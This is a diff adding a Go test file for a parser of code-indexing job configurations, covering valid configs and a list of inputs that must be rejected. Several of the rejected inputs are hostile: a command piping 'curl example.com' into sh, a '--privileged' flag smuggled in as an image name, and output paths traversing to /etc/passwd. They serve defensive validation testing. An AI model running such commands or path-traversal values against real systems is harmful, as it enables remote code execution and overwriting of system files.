@@ -0,0 +1,53 @@
+package inference
+
+import (
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+func TestParseConfig(t *testing.T) {
+	contents := `
+index_jobs:
+  - image: sourcegraph/lsif-go
+    command: lsif-go
+    arguments: ["--repositoryRoot={{repositoryRoot}}"]
+  - root: ./web/
+    indexer: lsif-node
+    image: sourcegraph/lsif-node
+    command: lsif-tsc
+    arguments: ["-p", "."]
+    outfile: out/web.lsif
+`
+
+	jobs, err := ParseConfig([]byte(contents))
+	if err != nil {
+		t.Fatalf("unexpected error parsing config: %s", err)
+	}
+
+	expected := []IndexJob{
+		{Root: "", Indexer: "lsif-go", Image: "sourcegraph/lsif-go", Command: "lsif-go", Arguments: []string{"--repositoryRoot={{repositoryRoot}}"}, Outfile: "dump.lsif"},
+		{Root: "web", Indexer: "lsif-node", Image: "sourcegraph/lsif-node", Command: "lsif-tsc", Arguments: []string{"-p", "."}, Outfile: "out/web.lsif"},
+	}
+	if diff := cmp.Diff(expected, jobs); diff != "" {
+		t.Errorf("unexpected index jobs (-want +got):\n%s", diff)
+	}
+}
+
+func TestParseConfigInvalid(t *testing.T) {
+	for _, contents := range []string{
+		"index_jobs: [{root: web, image: sourcegraph/lsif-go}]",
+		"index_jobs: [{command: lsif-go, image: sourcegraph/lsif-go, root: ../other}]",
+		"index_jobs: [{command: lsif-go, image: sourcegraph/lsif-go, unknown: field}]",
+		"index_jobs: [{command: sh, arguments: [-c, 'curl example.com | sh']}]",
+		"index_jobs: [{command: lsif-go, image: --privileged}]",
+		"index_jobs: [{command: lsif-go, image: sourcegraph/lsif-go, outfile: ../../../../etc/passwd}]",
+		"index_jobs: [{command: lsif-go, image: sourcegraph/lsif-go, root: web, outfile: ../dump.lsif}]",
+		"index_jobs: [{command: lsif-go, image: sourcegraph/lsif-go, outfile: /etc/passwd}]",
+		"index_jobs: [{command: lsif-go, image: sourcegraph/lsif-go, outfile: out/..}]",
+	} {
+		if _, err := ParseConfig([]byte(contents)); err == nil {
+			t.Errorf("expected error parsing config %q", contents)
+		}
+	}
+}